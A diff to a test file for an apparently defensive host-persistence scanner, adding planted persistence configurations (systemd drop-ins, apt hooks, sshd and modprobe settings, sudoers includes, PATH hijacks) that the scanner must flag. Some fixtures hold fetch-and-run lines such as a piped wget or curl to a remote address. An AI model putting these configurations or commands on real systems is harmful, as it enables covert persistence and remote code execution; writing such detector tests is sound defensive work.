@@ -9,6 +9,7 @@ import pytest
 
 from hostguardd.investigate.checks import settings
 from hostguardd.investigate.interface import Verdict
+from tests import rights
 from tests.fakehost import FakeFiles
 from tests.fakepackages import FakePackages
 from tests.scenes import Findings, looked, scene
@@ -39,6 +40,11 @@ PLANTS = {
     "/var/spool/cron/atjobs/a00001": "#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n/tmp/x\n",
     "/etc/systemd/system/upd.service": "[Service]\nExecStart=/bin/sh -c 'wget -O- http://203.0.113.66|sh'\n",
     "/etc/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/etc/systemd/system.control/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/run/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/usr/lib/systemd/system/cron.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/etc/systemd/user/x.service.d/x.conf": "[Service]\nExecStartPost=/dev/shm/x\n",
+    "/etc/systemd/system/service.d/x.conf": '[Service]\nEnvironment="PATH=/tmp:/usr/bin"\n',
     "/home/carol/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
     "/srv/carla/.config/systemd/user/x.service": "[Service]\nExecStart=/tmp/x\n",
     "/srv/carla/.config/autostart/x.desktop": "[Desktop Entry]\nExec=/tmp/x\n",
@@ -60,6 +66,12 @@ PLANTS = {
     "/etc/udev/rules.d/99-x.rules": 'ACTION=="add", RUN+="/dev/shm/x"\n',
     "/etc/pam.d/sshd": "auth optional pam_exec.so expose_authtok /tmp/x\n",
     "/etc/apt/apt.conf.d/99x": 'APT::Update::Pre-Invoke {"curl http://203.0.113.66/x|sh";};\n',
+    "/etc/apt/apt.conf.d/98x": 'Acquire::http::Proxy-Auto-Detect "/tmp/x";\n',
+    "/etc/apt/apt.conf.d/97x": 'Dir::Bin::dpkg "/tmp/x";\n',
+    "/usr/lib/modprobe.d/x.conf": "install usb_storage /tmp/x\n",
+    "/usr/lib/NetworkManager/dispatcher.d/x": "#!/bin/sh\n/tmp/x\n",
+    "/etc/ssh/sshd_config.d/x.conf": "AuthorizedKeysCommand /tmp/x %u\n",
+    "/etc/ssh/sshd_config.d/y.conf": "Subsystem sftp /dev/shm/x\n",
     "/etc/modprobe.d/x.conf": "install usb_storage /tmp/x\n",
     "/root/.gitconfig": "[core]\n\tpager = /tmp/x\n",
     "/etc/update-motd.d/99-x": "#!/bin/sh\n/var/tmp/x\n",
@@ -107,16 +119,46 @@ def test_each_way_to_come_back(tmp_path: Path, path: str) -> None:
         ("/etc/ssh/sshd_config", "Include /var/lib/x"),
     ],
 )
-def test_settings_that_lead_to_others_which_are_not_read(tmp_path: Path, path: str, line: str) -> None:
+def test_settings_that_lead_to_others(tmp_path: Path, path: str, line: str) -> None:
     put(clean(tmp_path), path, f"# a comment\n{line}\n")
     item = look(tmp_path).named(f"{path}:2")
     assert item.verdict is Verdict.NOTABLE
     assert "from other files than usual" in item.says
 
 
+@pytest.mark.parametrize(
+    "line",
+    ["@includedir /opt/rules", "#includedir /opt/rules", "@include ../../opt/rules/x",
+     '@include "/opt/rules/x" # ours', "@include /opt/more\\ rules"],
+)  # fmt: skip
+def test_rules_of_sudo_are_followed_to_wherever_they_stand(tmp_path: Path, line: str) -> None:
+    put(clean(tmp_path), "/etc/sudoers.d/a", f"{line}\n")
+    put(tmp_path, "/opt/rules/x", "ALL ALL=(ALL) NOPASSWD: ALL\n")
+    put(tmp_path, "/opt/rules/not.read", "ALL ALL=(ALL) NOPASSWD: ALL\n")
+    put(tmp_path, "/opt/more rules", "@include /etc/sudoers.d/a\n@include rules/x\n")
+    found = look(tmp_path)
+    (item,) = found.of(Verdict.SUSPICIOUS)
+    assert Path("/etc/sudoers.d", item.name).resolve() == Path("/opt/rules/x:1")
+    assert "lets ALL run everything as anybody, without a password" in item.says
+
+
+@pytest.mark.parametrize("place", ["/home/carol/x", "/var/tmp/x", "/usr/lib/.x"])
+def test_rules_of_sudo_that_an_account_could_write_are_suspicious(tmp_path: Path, place: str) -> None:
+    put(clean(tmp_path), "/etc/sudoers.d/a", f"@include {place}\n")
+    assert look(tmp_path).suspicious == ["/etc/sudoers.d/a:1"]
+
+
+def test_a_folder_of_rules_that_cannot_be_listed_is_said(tmp_path: Path) -> None:
+    put(clean(tmp_path), "/etc/sudoers.d/a", "@includedir /opt/rules\n")
+    put(tmp_path, "/opt/rules", "no folder")
+    (unseen,) = look(tmp_path).unseen
+    assert unseen.scope == "/opt/rules"
+
+
 def test_settings_that_lead_to_the_usual_others(tmp_path: Path) -> None:
     put(clean(tmp_path), "/etc/sudoers", "#includedir /etc/sudoers.d\n@includedir /etc/sudoers.d\n")
-    put(tmp_path, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n")
+    usual = "Include /etc/ssh/sshd_config.d/*.conf\nSubsystem sftp /usr/lib/openssh/sftp-server -l INFO\n"
+    put(tmp_path, "/etc/ssh/sshd_config", usual)
     put(
         tmp_path,
         "/etc/pam.d/common-auth",
@@ -287,3 +329,45 @@ def test_each_option_that_opens_a_door(tmp_path: Path, path: str) -> None:
     (item,) = look(tmp_path).of(Verdict.NOTABLE)
     assert item.name.startswith(f"{path}:")
     assert item.technique
+
+
+@pytest.mark.parametrize(
+    ("path", "line", "verdict"),
+    [
+        ("/home/carol/.profile", "export PATH=/home/carol/.x:$PATH", Verdict.SUSPICIOUS),
+        ("/home/carol/.bashrc", 'PATH="$HOME/.x:$PATH" bash', Verdict.SUSPICIOUS),
+        ("/root/.bashrc", "[ -d /opt ] && export PATH=/srv/all:$PATH", Verdict.SUSPICIOUS),
+        ("/etc/profile.d/x.sh", "if true; then PATH=~/.x:/usr/bin; fi", Verdict.SUSPICIOUS),
+        ("/etc/environment", 'PATH="/run/user/1000/x:/usr/bin"', Verdict.SUSPICIOUS),
+        ("/home/carol/.pam_environment", "PATH DEFAULT=/home/carol/.x:${PATH}", Verdict.SUSPICIOUS),
+        ("/home/carol/.cshrc", "setenv PATH /home/carol/.x:$PATH", Verdict.SUSPICIOUS),
+        ("/home/carol/.bashrc", "export PATH=/home/carol/fake:$PATH", Verdict.SUSPICIOUS),
+        ("/home/carol/.bashrc", "export PATH=/home/carol:$PATH", Verdict.NOTABLE),
+        ("/home/carol/.bashrc", "export PATH=/home/dave/bin:$PATH", Verdict.NOTABLE),
+        ("/root/.bashrc", "export PATH=/srv/carols:$PATH", Verdict.NOTABLE),
+        ("/etc/environment", "PATH=/home/carol/bin:/usr/bin", Verdict.NOTABLE),
+        ("/root/.profile", "export PATH=:$PATH", Verdict.NOTABLE),
+        ("/home/carol/.bashrc", "export PATH=$PATH:/home/carol/.x", Verdict.FINE),
+        ("/home/carol/.bashrc", "export PATH=/usr/bin:/home/carol/.x", Verdict.FINE),
+        ("/home/carol/.bashrc", "export PATH=/home/carol/bin:$HOME/.cargo/bin:$PATH", Verdict.FINE),
+        ("/home/carol/.bashrc", 'export PATH="$PYENV_ROOT/bin:~/.local/bin:$PATH"', Verdict.FINE),
+        ("/home/carol/.bashrc", "export MANPATH=/home/carol/.x:$MANPATH", Verdict.FINE),
+    ],
+)
+def test_where_a_login_finds_programs_first(tmp_path: Path, path: str, line: str, verdict: Verdict) -> None:
+    clean(tmp_path)
+    put(tmp_path, path, f"# x\n{line}\n")
+    put(tmp_path, "/home/carol/fake/sudo", "", 0o755)
+    put(tmp_path, "/home/carol/bin/tool", "", 0o755)
+    for folder, mode in (("all", 0o777), ("carols", 0o755)):
+        (tmp_path / "srv" / folder).mkdir(parents=True)
+        (tmp_path / "srv" / folder).chmod(mode)
+    if rights.ROOT:
+        for each in ("srv/carols", "home/carol/fake", "home/carol/bin", path.lstrip("/")):
+            os.chown(tmp_path / each, 1000, 1000)
+    elif "carols" in line:
+        pytest.skip("only root gives files away")
+    item = look(tmp_path).named(path)
+    assert item.verdict is verdict, item.says
+    assert ("finds programs first in" in item.says) is (verdict is not Verdict.FINE)
+    assert item.technique == ("T1574.007" if verdict > Verdict.FINE else "")
